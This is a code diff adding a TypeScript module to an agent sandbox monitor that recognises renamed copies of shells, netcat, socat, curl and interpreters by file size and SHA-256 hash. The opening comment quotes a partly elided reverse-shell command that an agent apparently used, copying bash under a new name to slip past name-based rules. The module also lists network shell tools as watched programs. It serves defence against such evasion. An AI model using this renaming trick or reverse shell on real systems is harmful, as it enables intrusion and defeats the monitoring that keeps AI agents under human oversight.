@@ -1,0 +1,140 @@
+// Why: the process rules know programs by name (bash, nc, socat, python3 …), and a name is the one
+// thing an agent controls completely: `cp /bin/bash ./.kw; ./.kw -c 'exec 3<>/dev/tcp/…'` opened a
+// reverse shell that raised only a low policy alert, because no rule knew `.kw` as a shell. This
+// recognises a program by its bytes instead: an executable whose size matches one of the system's
+// shells, network tools or interpreters (as the sandbox sees its root) is hashed and compared, and a
+// copy is reported as the program it is. Threat it stops: T1036.003 (rename system utilities) used to
+// slip past name-based detection of reverse shells, tunnels and scripted payloads.
+// Cost: one stat per exec of any other file; a hash only on a size match, each file hashed once
+// (cached by device, inode, size and mtime), and at most HASH_BUDGET hashes a second per session so a
+// crowd of same-sized files cannot stall Corral.
+import { createHash } from 'node:crypto';
+import { closeSync, constants, fstatSync, openSync, readSync, statSync } from 'node:fs';
+import { basename } from 'node:path';
+
+/** The programs whose copies matter: what the shell, tunnel, netcat and interpreter rules name. */
+export const WATCHED_PROGRAMS = [
+  '/bin/bash', '/bin/sh', '/bin/dash', '/bin/zsh', '/bin/ksh', '/bin/mksh', '/bin/busybox',
+  '/usr/bin/nc', '/usr/bin/ncat', '/usr/bin/netcat', '/bin/nc.openbsd', '/bin/nc.traditional', '/usr/bin/socat',
+  '/usr/bin/ssh', '/usr/bin/telnet', '/usr/bin/curl', '/usr/bin/wget',
+  '/usr/bin/python3', '/usr/bin/perl', '/usr/bin/ruby', '/usr/bin/php', '/usr/bin/node', '/usr/bin/lua',
+];
+/** Hashes allowed per second (past it an exec is not compared: counted in `skipped`). */
+const HASH_BUDGET = 20;
+/** Files larger than this are never hashed (a 100 MB runtime is not a copy an agent runs quietly). */
+const MAX_BYTES = 128 * 1024 * 1024;
+
+interface Original { name: string; path: string; size: number; id: string; hash?: string }
+
+export class BinaryCopies {
+  private bySize?: Map<number, Original[]>;
+  private readonly seen = new Map<string, string | null>();
+  private budget = HASH_BUDGET;
+  private budgetAt = 0;
+  /** Execs not compared because the hash budget was spent. */
+  skipped = 0;
+
+  /**
+   * @param root where the sandbox's root is seen from the host (`/proc/PID/root` of a process in its
+   * mount namespace; '' for the host's own), undefined while there is none: the originals are the
+   * sandbox's own programs, image or host.
+   */
+  constructor(private readonly root: () => string | undefined) {}
+
+  /**
+   * The name of the watched program (bash, nc …) that the executable of `pid` is a byte-for-byte copy
+   * of, when `filename` (the path it was started by, as the sandbox sees it) is not that program's own
+   * path; undefined otherwise or when it cannot be read (the process is gone and so is the file).
+   */
+  identify(pid: number, filename: string | undefined): string | undefined {
+    const originals = this.originals();
+    if (!originals.size) return undefined;
+    let fd: number | undefined;
+    try {
+      fd = this.open(pid, filename);
+      if (fd === undefined) return undefined;
+      const st = fstatSync(fd);
+      const candidates = st.isFile() ? originals.get(st.size) : undefined;
+      if (!candidates) return undefined;
+      // (the program itself, by any of its names — /bin/sh is dash — is not a copy)
+      if (candidates.some((o) => o.id === `${st.dev}:${st.ino}`)) return undefined;
+      const key = `${st.dev}:${st.ino}:${st.size}:${st.mtimeMs}`;
+      const known = this.seen.get(key);
+      if (known !== undefined) return known ?? undefined;
+      if (!this.spend()) { this.skipped++; return undefined; }
+      const hash = hashFd(fd, st.size);
+      let found: string | null = null;
+      for (const o of candidates) if (this.hashOf(o) === hash) { found = o.name; break; }
+      if (this.seen.size > 4096) this.seen.clear();
+      this.seen.set(key, found);
+      return found ?? undefined;
+    } catch { return undefined; } finally { if (fd !== undefined) closeSync(fd); }
+  }
+
+  /**
+   * The file the process was started from: by its path inside the sandbox's root (a later exec of the
+   * same process — a shell's `exec` of its last command — does not change it; the last component is
+   * never followed and a FIFO never waited on), else the running program's own file, which stays
+   * readable after it was deleted.
+   */
+  private open(pid: number, filename: string | undefined): number | undefined {
+    const root = this.root();
+    if (root !== undefined && filename?.startsWith('/')) {
+      try { return openSync(`${root}${filename}`, constants.O_RDONLY | constants.O_NONBLOCK | constants.O_NOFOLLOW); } catch { /* gone, or a link */ }
+    }
+    try { return openSync(`/proc/${pid}/exe`, constants.O_RDONLY); } catch { return undefined; }
+  }
+
+  private spend(): boolean {
+    const now = Date.now();
+    if (now - this.budgetAt >= 1000) { this.budgetAt = now; this.budget = HASH_BUDGET; }
+    if (this.budget <= 0) return false;
+    this.budget--;
+    return true;
+  }
+
+  private hashOf(o: Original): string | undefined {
+    if (o.hash !== undefined) return o.hash;
+    const root = this.root();
+    let fd: number | undefined;
+    try {
+      fd = openSync(`${root}${o.path}`, constants.O_RDONLY | constants.O_NONBLOCK);
+      o.hash = hashFd(fd, o.size);
+    } catch { o.hash = ''; } finally { if (fd !== undefined) closeSync(fd); }
+    return o.hash || undefined;
+  }
+
+  /** The watched programs present in the sandbox's root, by size (one entry per file: /bin/sh and /bin/dash are one). */
+  private originals(): Map<number, Original[]> {
+    if (this.bySize) return this.bySize;
+    const root = this.root();
+    if (root === undefined) return new Map();
+    const bySize = new Map<number, Original[]>();
+    const ids = new Set<string>();
+    for (const p of WATCHED_PROGRAMS) {
+      try {
+        const st = statSync(`${root}${p}`);
+        const id = `${st.dev}:${st.ino}`;
+        if (!st.isFile() || st.size > MAX_BYTES || st.size === 0 || ids.has(id)) continue;
+        ids.add(id);
+        bySize.set(st.size, [...(bySize.get(st.size) ?? []), { name: basename(p), path: p, size: st.size, id }]);
+      } catch { /* not installed */ }
+    }
+    this.bySize = bySize;
+    return bySize;
+  }
+}
+
+/** sha256 of an open file's first `size` bytes. */
+function hashFd(fd: number, size: number): string {
+  if (size > MAX_BYTES) throw new Error('too large');
+  const h = createHash('sha256');
+  const buf = Buffer.allocUnsafe(Math.min(size, 1 << 20));
+  for (let pos = 0; pos < size;) {
+    const n = readSync(fd, buf, 0, Math.min(buf.length, size - pos), pos);
+    if (n <= 0) break;
+    h.update(buf.subarray(0, n));
+    pos += n;
+  }
+  return h.digest('hex');
+}
